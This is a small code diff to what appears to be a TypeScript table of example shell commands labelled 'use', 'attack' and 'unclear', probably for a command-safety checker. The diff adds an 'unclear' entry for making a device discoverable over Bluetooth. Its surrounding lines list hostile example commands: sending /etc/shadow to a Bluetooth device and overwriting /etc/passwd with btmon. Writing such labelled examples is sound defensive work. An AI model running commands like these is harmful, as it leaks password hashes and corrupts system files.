@@ -201,7 +201,10 @@ export const networkConfiguration: ExampleTable = {
     attack:
       'bluetooth-sendto --device=00:11:22:33:44:55 /etc/shadow → read /etc/shadow; send 00:11:22:33:44:55',
   },
-  bluetoothctl: { use: 'bluetoothctl → nothing' },
+  bluetoothctl: {
+    use: 'bluetoothctl → nothing',
+    unclear: 'bluetoothctl discoverable on → who is let in by radio',
+  },
   btmon: {
     use: 'btmon -w hci.log → write hci.log',
     attack: 'btmon -w /etc/passwd → write /etc/passwd',
